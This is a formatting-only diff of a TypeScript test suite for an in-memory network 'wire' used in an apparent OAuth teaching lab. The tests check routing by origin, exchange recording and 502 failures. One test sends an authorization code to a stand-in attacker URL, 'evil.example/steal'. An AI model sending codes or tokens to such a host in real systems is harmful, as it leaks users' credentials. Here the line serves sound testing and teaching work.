@@ -10,7 +10,12 @@ function echo(origin: string, role: WireRoute['role']): WireRoute {
     role,
     async fetch(request) {
       const body = await request.text()
-      return Response.json({ served: origin, method: request.method, path: new URL(request.url).pathname, body })
+      return Response.json({
+        served: origin,
+        method: request.method,
+        path: new URL(request.url).pathname,
+        body,
+      })
     },
   }
 }
@@ -18,7 +23,11 @@ function echo(origin: string, role: WireRoute['role']): WireRoute {
 function makeWire(extra: WireRoute[] = []): Wire {
   let clock = 1_000
   return createWire({
-    routes: [echo('https://auth.photos.example', 'authorization-server'), echo('https://api.photos.example', 'resource-server'), ...extra],
+    routes: [
+      echo('https://auth.photos.example', 'authorization-server'),
+      echo('https://api.photos.example', 'resource-server'),
+      ...extra,
+    ],
     now: () => (clock += 5),
   })
 }
@@ -26,16 +35,33 @@ function makeWire(extra: WireRoute[] = []): Wire {
 describe('routing by origin', () => {
   it('delivers each request to the server at its origin and records who talked to whom', async () => {
     const wire = makeWire()
-    const a = await wire.send(new Request('https://auth.photos.example/token', { method: 'POST', body: 'grant_type=x' }), {
+    const a = await wire.send(
+      new Request('https://auth.photos.example/token', { method: 'POST', body: 'grant_type=x' }),
+      {
+        from: 'client',
+        channel: 'back',
+        label: 'Token request',
+      },
+    )
+    const b = await wire.send(new Request('https://api.photos.example/photos'), {
       from: 'client',
+      channel: 'back',
+    })
+    expect(await a.json()).toEqual({
+      served: 'https://auth.photos.example',
+      method: 'POST',
+      path: '/token',
+      body: 'grant_type=x',
+    })
+    expect(((await b.json()) as { served: string }).served).toBe('https://api.photos.example')
+    const [first, second] = wire.exchanges()
+    expect(first).toMatchObject({
+      seq: 1,
+      from: 'client',
+      to: 'authorization-server',
       channel: 'back',
       label: 'Token request',
     })
-    const b = await wire.send(new Request('https://api.photos.example/photos'), { from: 'client', channel: 'back' })
-    expect(await a.json()).toEqual({ served: 'https://auth.photos.example', method: 'POST', path: '/token', body: 'grant_type=x' })
-    expect(((await b.json()) as { served: string }).served).toBe('https://api.photos.example')
-    const [first, second] = wire.exchanges()
-    expect(first).toMatchObject({ seq: 1, from: 'client', to: 'authorization-server', channel: 'back', label: 'Token request' })
     expect(second).toMatchObject({ seq: 2, from: 'client', to: 'resource-server', channel: 'back' })
     expect(second).not.toHaveProperty('label')
     expect(first?.startedAt).toBe(1_005)
@@ -43,7 +69,9 @@ describe('routing by origin', () => {
   })
 
   it('refuses two servers on one origin', () => {
-    expect(() => makeWire([echo('https://api.photos.example', 'client')])).toThrow('Two servers claim the origin https://api.photos.example')
+    expect(() => makeWire([echo('https://api.photos.example', 'client')])).toThrow(
+      'Two servers claim the origin https://api.photos.example',
+    )
   })
 
   it('knows which role lives at a URL', () => {
@@ -80,7 +108,15 @@ describe('recording', () => {
   })
 
   it('records a GET as having no body, and fills an empty reason phrase from the status', async () => {
-    const wire = createWire({ routes: [{ origin: 'https://x.example', role: 'client', fetch: async () => new Response('nope', { status: 401 }) }] })
+    const wire = createWire({
+      routes: [
+        {
+          origin: 'https://x.example',
+          role: 'client',
+          fetch: async () => new Response('nope', { status: 401 }),
+        },
+      ],
+    })
     await wire.send(new Request('https://x.example/'), { from: 'user-agent', channel: 'front' })
     const [exchange] = wire.exchanges()
     expect(exchange?.request.body).toBeNull()
@@ -91,7 +127,15 @@ describe('recording', () => {
     const headers = new Headers()
     headers.append('Set-Cookie', 'a=1; Path=/')
     headers.append('Set-Cookie', 'b=2; Path=/')
-    const wire = createWire({ routes: [{ origin: 'https://x.example', role: 'client', fetch: async () => new Response(null, { headers }) }] })
+    const wire = createWire({
+      routes: [
+        {
+          origin: 'https://x.example',
+          role: 'client',
+          fetch: async () => new Response(null, { headers }),
+        },
+      ],
+    })
     await wire.send(new Request('https://x.example/'), { from: 'user-agent', channel: 'front' })
     expect(wire.exchanges()[0]?.response.headers).toEqual([
       ['set-cookie', 'a=1; Path=/'],
@@ -101,7 +145,10 @@ describe('recording', () => {
 
   it('is frozen plain data that survives JSON', async () => {
     const wire = makeWire()
-    await wire.send(new Request('https://api.photos.example/photos'), { from: 'client', channel: 'back' })
+    await wire.send(new Request('https://api.photos.example/photos'), {
+      from: 'client',
+      channel: 'back',
+    })
     const list = wire.exchanges()
     expect(Object.isFrozen(list)).toBe(true)
     expect(Object.isFrozen(list[0])).toBe(true)
@@ -114,12 +161,20 @@ describe('recording', () => {
       origin: 'https://api.photos.example',
       role: 'resource-server',
       async fetch() {
-        const keys = await wire.send(new Request('https://auth.photos.example/jwks'), { from: 'resource-server', channel: 'back' })
-        return new Response(`keys: ${(await keys.json() as { path: string }).path}`)
+        const keys = await wire.send(new Request('https://auth.photos.example/jwks'), {
+          from: 'resource-server',
+          channel: 'back',
+        })
+        return new Response(`keys: ${((await keys.json()) as { path: string }).path}`)
       },
     }
-    const wire: Wire = createWire({ routes: [api, echo('https://auth.photos.example', 'authorization-server')] })
-    const response = await wire.send(new Request('https://api.photos.example/photos'), { from: 'client', channel: 'back' })
+    const wire: Wire = createWire({
+      routes: [api, echo('https://auth.photos.example', 'authorization-server')],
+    })
+    const response = await wire.send(new Request('https://api.photos.example/photos'), {
+      from: 'client',
+      channel: 'back',
+    })
     expect(await response.text()).toBe('keys: /jwks')
     expect(wire.exchanges().map((e) => [e.seq, e.from, e.to])).toEqual([
       [1, 'client', 'resource-server'],
@@ -131,21 +186,39 @@ describe('recording', () => {
 describe('failures the wire answers itself', () => {
   it('an origin with no server: a recorded 502 with a readable body, no throw', async () => {
     const wire = makeWire()
-    const response = await wire.send(new Request('https://evil.example/steal?code=abc'), { from: 'user-agent', channel: 'front' })
+    const response = await wire.send(new Request('https://evil.example/steal?code=abc'), {
+      from: 'user-agent',
+      channel: 'front',
+    })
     expect(response.status).toBe(502)
     expect(await response.text()).toBe(
       "No server answers at https://evil.example in this lab. The lab's servers are at: https://auth.photos.example, https://api.photos.example.\n",
     )
-    expect(wire.exchanges()[0]).toMatchObject({ to: null, failure: 'no-route', response: { status: 502, statusText: 'Bad Gateway' } })
+    expect(wire.exchanges()[0]).toMatchObject({
+      to: null,
+      failure: 'no-route',
+      response: { status: 502, statusText: 'Bad Gateway' },
+    })
   })
 
   it('a server that throws: a recorded 502 naming the error', async () => {
     const wire = createWire({
-      routes: [{ origin: 'https://x.example', role: 'client', fetch: () => Promise.reject(new Error('boom')) }],
+      routes: [
+        {
+          origin: 'https://x.example',
+          role: 'client',
+          fetch: () => Promise.reject(new Error('boom')),
+        },
+      ],
     })
-    const response = await wire.send(new Request('https://x.example/'), { from: 'user-agent', channel: 'front' })
+    const response = await wire.send(new Request('https://x.example/'), {
+      from: 'user-agent',
+      channel: 'front',
+    })
     expect(response.status).toBe(502)
-    expect(await response.text()).toContain('The server at https://x.example failed before answering: boom')
+    expect(await response.text()).toContain(
+      'The server at https://x.example failed before answering: boom',
+    )
     expect(wire.exchanges()[0]?.failure).toBe('server-threw')
   })
 })
